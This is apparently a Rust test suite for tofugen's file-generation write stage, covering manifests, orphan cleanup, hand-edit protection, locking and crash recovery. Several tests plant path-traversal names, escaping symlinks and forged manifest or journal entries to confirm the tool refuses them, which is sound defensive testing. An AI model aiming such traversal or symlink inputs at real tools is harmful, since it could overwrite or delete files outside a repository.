//! The write stage: manifest, orphans, hand-edit protection, path safety, `check`, crash
//! recovery and locking.

use std::collections::BTreeMap;
use std::fs;
use std::io::BufRead;
use std::os::unix::fs::{MetadataExt, symlink};
use std::path::Path;

use sha2::{Digest, Sha256};
use tofugen::write::testing::{Interrupt, generate_interrupted};
use tofugen::write::{
    Difference, DifferenceKind, Generation, JOURNAL_PATH, LOCK_PATH, MANIFEST_PATH, OwnedPaths,
    STAGE_BYTES, TMP_SUFFIX, generate,
};

/// `check`'s report as the human text of each difference.
fn check(root: &Path, files: &BTreeMap<String, String>) -> anyhow::Result<Vec<String>> {
    tofugen::write::check(root, files).map(|d| d.iter().map(Difference::text).collect())
}

fn tree(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
    pairs
        .iter()
        .map(|(p, c)| (p.to_string(), c.to_string()))
        .collect()
}

fn v1() -> BTreeMap<String, String> {
    tree(&[
        ("generated/production/main.tf", "# production\nlocals {}\n"),
        ("generated/staging/main.tf", "# staging\nlocals {}\n"),
        (".github/workflows/tofugen-deploy.yml", "name: deploy\n"),
        ("generated/old/extra.tf", "# soon an orphan\n"),
    ])
}

/// v1 with production changed, staging unchanged, the workflow changed, `old/` dropped and a
/// new file added.
fn v2() -> BTreeMap<String, String> {
    tree(&[
        (
            "generated/production/main.tf",
            "# production\nlocals { x = 1 }\n",
        ),
        ("generated/staging/main.tf", "# staging\nlocals {}\n"),
        (".github/workflows/tofugen-deploy.yml", "name: deploy v2\n"),
        ("schema/environments.schema.json", "{}\n"),
    ])
}

fn read(root: &Path, rel: &str) -> Option<String> {
    fs::read_to_string(root.join(rel)).ok()
}

fn sha(s: &str) -> String {
    Sha256::digest(s.as_bytes())
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// Every entry under `dir`: path → (kind, size, mtime, inode, content for files).
fn listing(dir: &Path) -> BTreeMap<String, (String, u64, i128, u64, Vec<u8>)> {
    walkdir::WalkDir::new(dir)
        .into_iter()
        .map(|e| e.unwrap())
        .map(|e| {
            let m = fs::symlink_metadata(e.path()).unwrap();
            let kind = format!("{:?}", m.file_type());
            let content = if m.is_file() {
                fs::read(e.path()).unwrap()
            } else {
                Vec::new()
            };
            let mtime = m.mtime() as i128 * 1_000_000_000 + m.mtime_nsec() as i128;
            (
                e.path().display().to_string(),
                (kind, m.len(), mtime, m.ino(), content),
            )
        })
        .collect()
}

fn leftovers(root: &Path) -> Vec<String> {
    walkdir::WalkDir::new(root)
        .into_iter()
        .map(|e| e.unwrap().path().display().to_string())
        .filter(|p| p.ends_with(TMP_SUFFIX) || p.ends_with(JOURNAL_PATH))
        .collect()
}

#[test]
fn generate_writes_files_and_a_manifest() {
    let dir = tempfile::tempdir().unwrap();
    let files = v1();
    let summary = generate(dir.path(), &files, false).unwrap();
    assert_eq!(summary, "generated: 4 written, 0 unchanged, 0 removed");
    for (p, c) in &files {
        assert_eq!(read(dir.path(), p).as_deref(), Some(c.as_str()), "{p}");
    }
    let manifest: serde_json::Value =
        serde_json::from_str(&read(dir.path(), MANIFEST_PATH).unwrap()).unwrap();
    let listed: BTreeMap<String, String> =
        serde_json::from_value(manifest["files"].clone()).unwrap();
    let expected: BTreeMap<String, String> =
        files.iter().map(|(p, c)| (p.clone(), sha(c))).collect();
    assert_eq!(listed, expected);
    assert!(check(dir.path(), &files).unwrap().is_empty());
    assert!(leftovers(dir.path()).is_empty());
}

#[test]
fn manifest_is_sorted_and_byte_stable() {
    let a = tempfile::tempdir().unwrap();
    let b = tempfile::tempdir().unwrap();
    generate(a.path(), &v1(), false).unwrap();
    // Another history (v2 then v1) ends in the same manifest bytes.
    generate(b.path(), &v2(), false).unwrap();
    generate(b.path(), &v1(), false).unwrap();
    let ma = read(a.path(), MANIFEST_PATH).unwrap();
    assert_eq!(ma, read(b.path(), MANIFEST_PATH).unwrap());
    let positions: Vec<usize> = v1().keys().map(|p| ma.find(p.as_str()).unwrap()).collect();
    let mut sorted = positions.clone();
    sorted.sort();
    assert_eq!(positions, sorted, "paths appear in sorted order:\n{ma}");
    assert!(ma.ends_with("}\n"));
}

#[test]
fn second_run_rewrites_nothing() {
    let dir = tempfile::tempdir().unwrap();
    generate(dir.path(), &v1(), false).unwrap();
    let before = listing(dir.path());
    let summary = generate(dir.path(), &v1(), false).unwrap();
    assert_eq!(summary, "generated: 0 written, 4 unchanged, 0 removed");
    // Same inodes and mtimes: nothing was rewritten (the lock file existed already).
    assert_eq!(before, listing(dir.path()));
}

#[test]
fn changes_write_only_what_differs_and_remove_orphans() {
    let dir = tempfile::tempdir().unwrap();
    generate(dir.path(), &v1(), false).unwrap();
    let staging = dir.path().join("generated/staging/main.tf");
    let ino = fs::metadata(&staging).unwrap().ino();
    let summary = generate(dir.path(), &v2(), false).unwrap();
    assert_eq!(summary, "generated: 3 written, 1 unchanged, 1 removed");
    assert_eq!(fs::metadata(&staging).unwrap().ino(), ino);
    for (p, c) in &v2() {
        assert_eq!(read(dir.path(), p).as_deref(), Some(c.as_str()), "{p}");
    }
    // The orphan and the directory it left empty are gone.
    assert!(!dir.path().join("generated/old").exists());
    assert!(dir.path().join("generated").is_dir());
    assert!(check(dir.path(), &v2()).unwrap().is_empty());
}

#[test]
fn orphan_removal_keeps_non_empty_directories_and_unknown_files() {
    let dir = tempfile::tempdir().unwrap();
    let files = tree(&[("generated/a/b/c.tf", "c\n"), ("generated/x.tf", "x\n")]);
    generate(dir.path(), &files, false).unwrap();
    fs::write(dir.path().join("generated/a/notes.md"), "mine\n").unwrap();
    fs::write(dir.path().join("generated/user.tf"), "mine\n").unwrap();
    let summary = generate(dir.path(), &tree(&[("generated/x.tf", "x\n")]), false).unwrap();
    // Left in place, and said: `check` refuses them.
    assert_eq!(
        summary,
        "generated: 0 written, 1 unchanged, 1 removed; not written by tofugen, left in place \
         (generated/ holds only tofugen's output; delete, move or rename them, `tofugen check` \
         fails until then): generated/a/notes.md, generated/user.tf"
    );
    assert_eq!(
        check(dir.path(), &tree(&[("generated/x.tf", "x\n")]))
            .unwrap()
            .len(),
        2
    );
    assert!(!dir.path().join("generated/a/b").exists());
    assert_eq!(
        read(dir.path(), "generated/a/notes.md").as_deref(),
        Some("mine\n")
    );
    assert_eq!(
        read(dir.path(), "generated/user.tf").as_deref(),
        Some("mine\n")
    );
    // Dropping everything: only tofugen's files go; unknown files stay.
    generate(dir.path(), &BTreeMap::new(), false).unwrap();
    assert!(!dir.path().join("generated/x.tf").exists());
    assert_eq!(
        read(dir.path(), "generated/user.tf").as_deref(),
        Some("mine\n")
    );
}

/// A tree a newer tofugen generated is not regenerated by an older one (its output would undo
/// the newer release's in every file) until `--force`; nothing is written before.
#[test]
fn a_tree_from_a_newer_tofugen_is_refused_until_force() {
    let dir = tempfile::tempdir().unwrap();
    generate(dir.path(), &v1(), false).unwrap();
    let path = dir.path().join(MANIFEST_PATH);
    let mut manifest: serde_json::Value =
        serde_json::from_str(&fs::read_to_string(&path).unwrap()).unwrap();
    manifest["tofugen"] = "999.0.0".into();
    fs::write(&path, serde_json::to_string_pretty(&manifest).unwrap()).unwrap();
    let before = listing(dir.path());
    let err = format!("{:#}", generate(dir.path(), &v2(), false).unwrap_err());
    assert!(
        err.contains("tofugen 999.0.0 generated this tree, a newer version than this tofugen"),
        "{err}"
    );
    assert_eq!(before, listing(dir.path()), "nothing written");
    // `check` names the refusal, before the differences this tofugen would write.
    let found = tofugen::write::check(dir.path(), &v2()).unwrap();
    assert_eq!(found[0].kind, DifferenceKind::Refused, "{found:#?}");
    assert!(
        found[0]
            .message
            .starts_with("says tofugen 999.0.0 generated this tree, a newer version"),
        "{found:#?}"
    );
    assert_eq!(
        found
            .iter()
            .filter(|d| d.kind == DifferenceKind::Refused)
            .count(),
        1
    );
    generate(dir.path(), &v2(), true).unwrap();
    let manifest: serde_json::Value =
        serde_json::from_str(&read(dir.path(), MANIFEST_PATH).unwrap()).unwrap();
    assert_eq!(manifest["tofugen"], env!("CARGO_PKG_VERSION"));
    assert!(check(dir.path(), &v2()).unwrap().is_empty());
}

#[test]
fn hand_edited_files_are_protected_until_force() {
    let dir = tempfile::tempdir().unwrap();
    generate(dir.path(), &v1(), false).unwrap();
    let prod = "generated/production/main.tf";
    fs::write(dir.path().join(prod), "# my edit\n").unwrap();
    fs::write(
        dir.path().join("generated/old/extra.tf"),
        "# edited orphan\n",
    )
    .unwrap();
    let before = listing(dir.path());
    let err = format!("{:#}", generate(dir.path(), &v2(), false).unwrap_err());
    assert!(err.contains(&format!("{prod}: edited by hand")), "{err}");
    assert!(
        err.contains("generated/old/extra.tf: no longer generated, and edited by hand (tofugen never deletes it"),
        "{err}"
    );
    // The closing advice covers both kinds, and says what --force does to each (sweep 55c, #3).
    assert!(
        err.ends_with(
            "nothing was written. To go on, make the edits in the configuration instead (these \
             files are generated from it); delete each file no longer generated; or re-run: \
             `tofugen generate --force` overwrites the files above and leaves those no longer \
             generated in place"
        ),
        "{err}"
    );
    assert!(
        !err.contains("staging"),
        "only the conflicts are listed: {err}"
    );
    // Nothing at all was written.
    assert_eq!(before, listing(dir.path()));

    // --force overwrites the edited file, but never deletes the edited orphan.
    let summary = generate(dir.path(), &v2(), true).unwrap();
    assert_eq!(
        summary,
        "generated: 3 written, 1 unchanged, 0 removed (1 file(s) overwritten by --force); left \
         in place, no longer generated but edited by hand (tofugen never deletes them): \
         generated/old/extra.tf"
    );
    assert_eq!(read(dir.path(), prod), v2().get(prod).cloned());
    assert_eq!(
        read(dir.path(), "generated/old/extra.tf").as_deref(),
        Some("# edited orphan\n")
    );
    // No longer in the manifest: an unknown file from now on, reported by check, never touched.
    let report = check(dir.path(), &v2()).unwrap();
    assert_eq!(report.len(), 1, "{report:#?}");
    assert!(
        report[0].starts_with("generated/old/extra.tf: not written by tofugen: OpenTofu loads"),
        "{report:#?}"
    );
    generate(dir.path(), &v2(), false).unwrap();
    assert!(dir.path().join("generated/old/extra.tf").exists());
}

#[test]
fn files_not_written_by_tofugen_are_not_overwritten_without_force() {
    let dir = tempfile::tempdir().unwrap();
    let files = v1();
    fs::create_dir_all(dir.path().join(".github/workflows")).unwrap();
    fs::write(
        dir.path().join(".github/workflows/tofugen-deploy.yml"),
        "mine\n",
    )
    .unwrap();
    let err = format!("{:#}", generate(dir.path(), &files, false).unwrap_err());
    assert!(
        err.contains(".github/workflows/tofugen-deploy.yml: exists but was not written by tofugen"),
        "{err}"
    );
    // A file of the user's own: no configuration holds it (sweep 55c, #3: the advice was to
    // make the change in the configuration).
    assert!(
        err.ends_with(
            "nothing was written. To go on, move or rename each file tofugen did not write \
             (tofugen writes that path: no configuration keeps a file of your own there); or \
             re-run: `tofugen generate --force` overwrites the files above, losing what they hold"
        ),
        "{err}"
    );
    assert!(!dir.path().join(MANIFEST_PATH).exists());
    assert!(!dir.path().join("generated").exists());
    generate(dir.path(), &files, true).unwrap();
    assert_eq!(
        read(dir.path(), ".github/workflows/tofugen-deploy.yml").as_deref(),
        Some("name: deploy\n")
    );
}

#[test]
fn identical_untracked_files_are_adopted() {
    let dir = tempfile::tempdir().unwrap();
    fs::create_dir_all(dir.path().join(".github/workflows")).unwrap();
    fs::write(
        dir.path().join(".github/workflows/tofugen-deploy.yml"),
        "name: deploy\n",
    )
    .unwrap();
    let summary = generate(dir.path(), &v1(), false).unwrap();
    assert_eq!(summary, "generated: 3 written, 1 unchanged, 0 removed");
    assert!(
        read(dir.path(), MANIFEST_PATH)
            .unwrap()
            .contains(".github/workflows/tofugen-deploy.yml")
    );
}

#[test]
fn invalid_paths_are_rejected_before_anything_is_written() {
    let outer = tempfile::tempdir().unwrap();
    let root = outer.path().join("repo");
    fs::create_dir(&root).unwrap();
    for bad in [
        "../x",
        "/abs",
        "a/../../b",
        "a/./b",
        "a//b",
        "a/",
        "",
        "a\0b",
        "a\nb",
        "a b",
        "a\\b",
        "é.tf",
        "x.tofugen-tmp",
        MANIFEST_PATH,
        LOCK_PATH,
        JOURNAL_PATH,
    ] {
        let files = tree(&[(bad, "x\n"), ("generated/ok.tf", "ok\n")]);
        let err = format!("{:#}", generate(&root, &files, false).unwrap_err());
        assert!(err.contains(&format!("{bad:?}")), "{bad:?}: {err}");
        let err = format!("{:#}", check(&root, &files).unwrap_err());
        assert!(err.contains(&format!("{bad:?}")), "{bad:?}: {err}");
        assert_eq!(besides_lock(&root), 0, "{bad:?} wrote something");
        assert_eq!(
            fs::read_dir(outer.path()).unwrap().count(),
            1,
            "{bad:?} escaped"
        );
    }
    // A path cannot be both a file and a directory.
    let files = tree(&[("generated/a", "x\n"), ("generated/a/b", "y\n")]);
    assert!(generate(&root, &files, false).is_err());
    let files = tree(&[("generated", "x\n")]);
    assert!(generate(&root, &files, false).is_err());
}

#[test]
fn symlinks_leaving_the_root_are_refused() {
    let outer = tempfile::tempdir().unwrap();
    let root = outer.path().join("repo");
    let outside = outer.path().join("outside");
    fs::create_dir_all(&root).unwrap();
    fs::create_dir_all(&outside).unwrap();
    fs::write(outside.join("target.tf"), "precious\n").unwrap();
    symlink(&outside, root.join("generated")).unwrap();
    let files = tree(&[("generated/x.tf", "x\n")]);
    let err = format!("{:#}", generate(&root, &files, false).unwrap_err());
    assert!(err.contains("outside the repository root"), "{err}");
    assert!(format!("{:#}", check(&root, &files).unwrap_err()).contains("outside"));
    assert_eq!(fs::read_dir(&outside).unwrap().count(), 1);

    // A symlinked directory inside the root is refused too: `generated -> real` would write
    // `real/x.tf`.
    fs::remove_file(root.join("generated")).unwrap();
    fs::create_dir(root.join("real")).unwrap();
    symlink(root.join("real"), root.join("generated")).unwrap();
    let err = format!("{:#}", generate(&root, &files, false).unwrap_err());
    assert!(
        err.contains("the symlink `generated` (it points to `real`)"),
        "{err}"
    );
    assert!(format!("{:#}", check(&root, &files).unwrap_err()).contains("`generated`"));
    assert_eq!(fs::read_dir(root.join("real")).unwrap().count(), 0);
    // Inside the owned set too: `generated/link -> real` makes two generated paths one file
    // (`generated/production -> staging` made `--force` write production's root over
    // staging's, and every run flip it back).
    fs::remove_file(root.join("generated")).unwrap();
    fs::create_dir_all(root.join("generated/real")).unwrap();
    symlink("real", root.join("generated/link")).unwrap();
    let files = tree(&[
        ("generated/link/x.tf", "x\n"),
        ("generated/real/x.tf", "y\n"),
    ]);
    for force in [false, true] {
        let err = format!("{:#}", generate(&root, &files, force).unwrap_err());
        assert!(
            err.contains("refusing to write through the symlink `generated/link`"),
            "{err}"
        );
    }
    let err = format!("{:#}", check(&root, &files).unwrap_err());
    assert!(err.contains("the symlink `generated/link`"), "{err}");
    assert_eq!(
        fs::read_dir(root.join("generated/real")).unwrap().count(),
        0
    );
    // A symlink that no generated path goes through is a stray entry `check` names.
    let files = tree(&[("generated/real/x.tf", "x\n")]);
    generate(&root, &files, false).unwrap();
    let stale = check(&root, &files).unwrap();
    assert!(format!("{stale:?}").contains("generated/link"), "{stale:?}");
    fs::remove_file(root.join("generated/link")).unwrap();
    assert!(check(&root, &files).unwrap().is_empty());

    // A generated file that is a symlink is never written through.
    symlink(outside.join("target.tf"), root.join("generated/real/y.tf")).unwrap();
    let files = tree(&[
        ("generated/real/x.tf", "x\n"),
        ("generated/real/y.tf", "y\n"),
    ]);
    let err = format!("{:#}", generate(&root, &files, true).unwrap_err());
    assert!(err.contains("generated/real/y.tf: is a symlink"), "{err}");
    assert_eq!(read(&outside, "target.tf").as_deref(), Some("precious\n"));
}

#[test]
fn manifest_entries_that_escape_the_root_are_refused() {
    let outer = tempfile::tempdir().unwrap();
    let root = outer.path().join("repo");
    fs::create_dir_all(root.join("generated")).unwrap();
    fs::write(outer.path().join("victim"), "v\n").unwrap();
    let manifest = format!(
        "{{\"format\": 1, \"files\": {{\"../victim\": \"{}\"}}}}",
        sha("v\n")
    );
    fs::write(root.join(MANIFEST_PATH), manifest).unwrap();
    let err = format!(
        "{:#}",
        generate(&root, &BTreeMap::new(), false).unwrap_err()
    );
    assert!(err.contains("\"../victim\""), "{err}");
    assert!(err.contains("--force"), "{err}");
    assert!(check(&root, &BTreeMap::new()).is_err());
    assert!(outer.path().join("victim").exists());
    // --force does not override an invalid entry either, and never deletes what it lists.
    let err = format!("{:#}", generate(&root, &BTreeMap::new(), true).unwrap_err());
    assert!(err.contains("\"../victim\""), "{err}");
    assert!(outer.path().join("victim").exists());
}

/// A manifest entry naming one of OpenTofu's local files, with its right hash, is refused
/// like an entry outside the root: `generate` deleted the provider lock file it listed, as an
/// orphan of its own (sweep 10).
#[test]
fn manifest_entries_naming_opentofu_local_files_are_refused() {
    for local in [
        "generated/staging/.terraform.lock.hcl",
        "generated/staging/.terraform/providers/x",
        "generated/bootstrap/terraform.tfstate",
        "generated/staging/plan.tfplan",
    ] {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        plant(root, &[(local, "lock\n")]);
        let manifest = format!(
            "{{\"format\": 1, \"files\": {{\"{local}\": \"{}\"}}}}",
            sha("lock\n")
        );
        fs::write(root.join(MANIFEST_PATH), manifest).unwrap();
        for force in [false, true] {
            let err = format!("{:#}", generate(root, &BTreeMap::new(), force).unwrap_err());
            assert!(err.contains(&format!("{local:?}")), "{local}: {err}");
            assert!(err.contains("OpenTofu's local files"), "{local}: {err}");
            assert_eq!(read(root, local).as_deref(), Some("lock\n"), "{local}");
        }
        assert!(check(root, &BTreeMap::new()).is_err());
    }
}

/// A tree in every state `check` reports: stale, missing, hand-edited, unknown, orphan.
fn messy_tree(root: &Path) -> BTreeMap<String, String> {
    let long: String = (1..=12).map(|i| format!("line {i}\n")).collect();
    let old = tree(&[
        ("generated/production/main.tf", &long),
        ("generated/staging/main.tf", "# staging\n"),
        ("generated/old/extra.tf", "# orphan\n"),
        ("generated/dev/main.tf", "# dev\n"),
    ]);
    generate(root, &old, false).unwrap();
    fs::write(root.join("generated/dev/main.tf"), "# dev, edited\n").unwrap();
    fs::write(root.join("generated/notes.tf"), "# mine\n").unwrap();
    let new_long = long.replace("line 6\n", "line six\n");
    tree(&[
        ("generated/production/main.tf", &new_long),
        ("generated/dev/main.tf", "# dev\n"),
        ("generated/notes.tf", "# generated notes\n"),
        ("generated/staging/main.tf", "# staging\n"),
        ("schema/environments.schema.json", "{}\n"),
    ])
}

#[test]
fn check_reports_every_difference_with_diffs() {
    let dir = tempfile::tempdir().unwrap();
    let files = messy_tree(dir.path());
    let report = check(dir.path(), &files).unwrap().concat();
    insta::assert_snapshot!(report);
}

#[test]
fn check_writes_nothing() {
    let outer = tempfile::tempdir().unwrap();
    let root = outer.path().join("repo");
    fs::create_dir(&root).unwrap();
    let files = messy_tree(&root);
    fs::remove_file(root.join(LOCK_PATH)).unwrap();
    let before = listing(outer.path());
    let differences = check(&root, &files).unwrap();
    assert_eq!(differences.len(), 6, "{differences:#?}");
    // Same entries, sizes, mtimes (directories included), inodes and contents; no lock file.
    assert_eq!(before, listing(outer.path()));
    assert!(!root.join(LOCK_PATH).exists());
}

#[test]
fn a_held_lock_makes_generate_fail_fast_and_check_wait_for_nothing() {
    let dir = tempfile::tempdir().unwrap();
    generate(dir.path(), &v1(), false).unwrap();
    let mut lock = fd_lock::RwLock::new(fs::File::open(dir.path().join(LOCK_PATH)).unwrap());
    let guard = lock.try_write().unwrap();
    let err = format!("{:#}", generate(dir.path(), &v2(), false).unwrap_err());
    assert!(
        err.contains("another `tofugen generate` is running"),
        "{err}"
    );
    assert!(err.contains(LOCK_PATH), "{err}");
    assert!(check(dir.path(), &v1()).is_err());
    drop(guard);
    assert!(check(dir.path(), &v1()).unwrap().is_empty());
    generate(dir.path(), &v2(), false).unwrap();
}

#[test]
fn concurrent_generates_leave_a_consistent_tree() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().to_path_buf();
    let handles: Vec<_> = [v1(), v2()]
        .into_iter()
        .map(|files| {
            let root = root.clone();
            std::thread::spawn(move || {
                let mut ok = 0;
                for _ in 0..40 {
                    match generate(&root, &files, false) {
                        Ok(_) => ok += 1,
                        Err(e) => {
                            let e = format!("{e:#}");
                            assert!(e.contains("another `tofugen generate` is running"), "{e}");
                        }
                    }
                }
                ok
            })
        })
        .collect();
    let successes: usize = handles.into_iter().map(|h| h.join().unwrap()).sum();
    assert!(successes > 0);
    let a = check(&root, &v1()).unwrap();
    let b = check(&root, &v2()).unwrap();
    assert!(a.is_empty() || b.is_empty(), "{a:#?}\n{b:#?}");
    assert!(leftovers(&root).is_empty(), "{:?}", leftovers(&root));
}

#[test]
fn a_run_killed_after_the_commit_is_completed_by_the_next() {
    for n in 0.. {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        generate(root, &v1(), false).unwrap();
        if !generate_interrupted(root, &v2(), false, Interrupt::AfterOps(n)).unwrap() {
            assert_eq!(n, 5, "the plan has 4 writes and 1 removal");
            break;
        }
        // Every file is whole: either its old or its new content, or absent.
        for p in v1().keys().chain(v2().keys()) {
            let now = read(root, p);
            assert!(
                now.is_none() || now == v1().get(p).cloned() || now == v2().get(p).cloned(),
                "{p} after {n} ops: {now:?}"
            );
        }
        let report = check(root, &v2()).unwrap();
        assert!(report[0].starts_with(JOURNAL_PATH), "{report:#?}");
        let summary = generate(root, &v2(), false).unwrap();
        assert!(
            summary.ends_with("; completed an interrupted run first"),
            "{summary}"
        );
        assert!(
            summary.starts_with("generated: 0 written, 4 unchanged, 0 removed"),
            "{summary}"
        );
        assert!(check(root, &v2()).unwrap().is_empty(), "after {n} ops");
        assert!(!root.join("generated/old").exists());
        assert!(leftovers(root).is_empty(), "{:?}", leftovers(root));
    }
}

#[test]
fn a_run_killed_before_the_commit_is_rolled_back() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    generate(root, &v1(), false).unwrap();
    assert!(generate_interrupted(root, &v2(), false, Interrupt::BeforeCommit).unwrap());
    assert!(
        leftovers(root).iter().any(|p| p.ends_with(TMP_SUFFIX)),
        "temp files were staged"
    );
    // The old tree is intact; only the journal is reported.
    let report = check(root, &v1()).unwrap();
    assert_eq!(report.len(), 1, "{report:#?}");
    assert!(report[0].starts_with(JOURNAL_PATH));
    let summary = generate(root, &v1(), false).unwrap();
    assert_eq!(
        summary,
        "generated: 0 written, 4 unchanged, 0 removed; rolled back an interrupted run first"
    );
    assert!(leftovers(root).is_empty(), "{:?}", leftovers(root));
    // The new directory staged for the schema was removed again.
    assert!(!root.join("schema").exists());
    assert!(check(root, &v1()).unwrap().is_empty());
}

#[test]
fn a_corrupt_journal_is_reported_clearly() {
    let dir = tempfile::tempdir().unwrap();
    generate(dir.path(), &v1(), false).unwrap();
    fs::write(dir.path().join(JOURNAL_PATH), "{not json").unwrap();
    let err = format!("{:#}", generate(dir.path(), &v1(), false).unwrap_err());
    assert!(
        err.contains(&format!("{JOURNAL_PATH}:1:2: key must be a string")),
        "{err}"
    );
    assert!(err.contains("not a journal tofugen can act on"), "{err}");
    let err = format!("{:#}", check(dir.path(), &v1()).unwrap_err());
    assert!(err.contains(&format!("{JOURNAL_PATH}:1:2:")), "{err}");
    assert!(!err.contains("to complete it"), "{err}");
    // An older format is named as such.
    let journal = r#"{"format":1,"state":"committed","writes":[],"removes":[]}"#;
    fs::write(dir.path().join(JOURNAL_PATH), journal).unwrap();
    let err = format!("{:#}", generate(dir.path(), &v1(), false).unwrap_err());
    assert!(
        err.contains("format 1 is not the journal format 2"),
        "{err}"
    );
    let journal =
        r#"{"format":2,"state":"committed","writes":[{"path":"../x","sha256":"00"}],"removes":[]}"#;
    fs::write(dir.path().join(JOURNAL_PATH), journal).unwrap();
    let err = format!("{:#}", generate(dir.path(), &v1(), false).unwrap_err());
    assert!(err.contains("\"../x\""), "{err}");
}

#[test]
fn a_corrupt_manifest_is_reported_with_its_position() {
    let dir = tempfile::tempdir().unwrap();
    generate(dir.path(), &v1(), false).unwrap();
    fs::write(
        dir.path().join(MANIFEST_PATH),
        "{\"format\": 1,\n \"files\": 3}\n",
    )
    .unwrap();
    let err = format!("{:#}", generate(dir.path(), &v1(), false).unwrap_err());
    assert!(
        err.contains(&format!("{MANIFEST_PATH}:2:11: invalid type")),
        "{err}"
    );
    assert!(err.contains("|  \"files\": 3}"), "{err}");
    assert!(err.contains("--force"), "{err}");
    assert!(check(dir.path(), &v1()).is_err());
    // --force rebuilds it; the files match, so nothing else is rewritten.
    let summary = generate(dir.path(), &v1(), true).unwrap();
    assert_eq!(
        summary,
        "generated: 0 written, 4 unchanged, 0 removed; the manifest was rewritten"
    );
    assert!(check(dir.path(), &v1()).unwrap().is_empty());
}

/// Two large trees that differ in every file, for the kill test.
fn big_tree(tag: &str) -> BTreeMap<String, String> {
    (0..40)
        .map(|i| {
            let body = format!("# {tag} file {i}\n").repeat(1500);
            (format!("generated/env{}/file{i}.tf", i % 5), body)
        })
        .collect()
}

/// `tree` in batches of `per` files through the streaming API (as `tofugen generate` gives
/// them, one environment at a time): each batch's new files are staged at once.
fn generate_in_batches(
    root: &Path,
    tree: &BTreeMap<String, String>,
    per: usize,
    force: bool,
) -> anyhow::Result<String> {
    let mut run = Generation::start(root, &OwnedPaths::default(), force)?;
    let files: Vec<(String, String)> = tree.iter().map(|(p, c)| (p.clone(), c.clone())).collect();
    for batch in files.chunks(per) {
        run.add(batch.to_vec())?;
    }
    run.finish()
}

/// Run by `a_killed_process_leaves_a_recoverable_tree` in a child process: generates the two
/// big trees alternately until killed, every other run in batches of 7 files (temp files staged
/// batch by batch, the prepared journal rewritten before each).
#[test]
#[ignore = "child process of a_killed_process_leaves_a_recoverable_tree"]
fn crash_child() {
    let Some(root) = std::env::var_os("TOFUGEN_CRASH_ROOT") else {
        return;
    };
    let trees = [big_tree("a"), big_tree("b")];
    for i in 0.. {
        if i % 4 < 2 {
            generate(Path::new(&root), &trees[i % 2], false).unwrap();
        } else {
            generate_in_batches(Path::new(&root), &trees[i % 2], 7, false).unwrap();
        }
        if i == 0 {
            println!("ready");
        }
    }
}

#[test]
fn a_killed_process_leaves_a_recoverable_tree() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let (a, b) = (big_tree("a"), big_tree("b"));
    generate(root, &a, false).unwrap();
    let mut interrupted = 0;
    for i in 0..12u64 {
        let mut child = std::process::Command::new(std::env::current_exe().unwrap())
            .args(["--exact", "crash_child", "--ignored", "--nocapture"])
            .env("TOFUGEN_CRASH_ROOT", root)
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        // Wait until the child has finished one run, then kill it somewhere in the next ones:
        // 10 to 158 ms later, in steps of 37 ms modulo 160 (a run of these trees takes tens of
        // milliseconds, so the kills land in every phase of a run: staging, the journal,
        // renames, removals).
        let stdout = std::io::BufReader::new(child.stdout.take().unwrap());
        let ready = stdout.lines().map_while(Result::ok).any(|l| l == "ready");
        assert!(ready, "the child process did not start generating");
        std::thread::sleep(std::time::Duration::from_millis(10 + 37 * i % 160));
        child.kill().unwrap(); // SIGKILL
        child.wait().unwrap();
        interrupted += usize::from(root.join(JOURNAL_PATH).exists());
        // Every file is whole, whatever the moment of the kill.
        for (p, c) in &a {
            let now = read(root, p);
            assert!(
                now.as_deref() == Some(c) || now.as_ref() == b.get(p),
                "{p} is torn after kill {i}"
            );
        }
        // The next run recovers without seeing spurious hand edits, and converges.
        let target = if i % 2 == 0 { &b } else { &a };
        generate(root, target, false).unwrap();
        assert!(check(root, target).unwrap().is_empty(), "after kill {i}");
        assert!(leftovers(root).is_empty(), "{:?}", leftovers(root));
    }
    eprintln!("{interrupted} of 12 kills interrupted a run mid-journal");
}

// ---------------------------------------------------------------------------------------------
// The owned set, and what an attacker who can commit files can plant: manifest entries,
// journals, temp files, symlinks, special files. One test per attack class.
// ---------------------------------------------------------------------------------------------

/// Writes `files` (path → content) under `root`, creating directories.
fn plant(root: &Path, files: &[(&str, &str)]) {
    for (p, c) in files {
        let path = root.join(p);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, c).unwrap();
    }
}

/// Adds `entries` (path → content whose sha256 is listed) to the manifest under `root`.
fn add_to_manifest(root: &Path, entries: &[(&str, &str)]) {
    let path = root.join(MANIFEST_PATH);
    let mut manifest: serde_json::Value =
        serde_json::from_str(&fs::read_to_string(&path).unwrap()).unwrap();
    for (p, c) in entries {
        manifest["files"][*p] = serde_json::Value::String(sha(c));
    }
    fs::write(path, serde_json::to_string_pretty(&manifest).unwrap()).unwrap();
}

/// The temp file tofugen stages for `rel`.
fn tmp_of(root: &Path, rel: &str) -> std::path::PathBuf {
    let (dir, name) = rel.rsplit_once('/').unwrap_or(("", rel));
    root.join(dir).join(format!(".{name}{TMP_SUFFIX}"))
}

/// Writes a journal (format 2) in `state` with `writes` and `removes` (path, content whose hash
/// is recorded).
fn plant_journal(root: &Path, state: &str, writes: &[(&str, &str)], removes: &[(&str, &str)]) {
    let entries = |list: &[(&str, &str)]| -> Vec<serde_json::Value> {
        list.iter()
            .map(|(p, c)| serde_json::json!({"path": p, "sha256": sha(c)}))
            .collect()
    };
    let journal = serde_json::json!({
        "format": 2,
        "state": state,
        "writes": entries(writes),
        "removes": entries(removes),
    });
    fs::write(root.join(JOURNAL_PATH), journal.to_string()).unwrap();
}

/// Runs `f` on another thread and fails if it does not finish within 10 s (a blocked open of a
/// FIFO never would).
fn within_10s<T: Send + 'static>(what: &str, f: impl FnOnce() -> T + Send + 'static) -> T {
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let _ = tx.send(f());
    });
    rx.recv_timeout(std::time::Duration::from_secs(10))
        .unwrap_or_else(|_| panic!("{what} blocked for 10 s"))
}

/// Creates a FIFO. (Not with the `mkfifo` command: a child process forked while another test's
/// thread holds a lock file would hold that lock too until it execs, failing that test.)
fn mkfifo(path: &Path) {
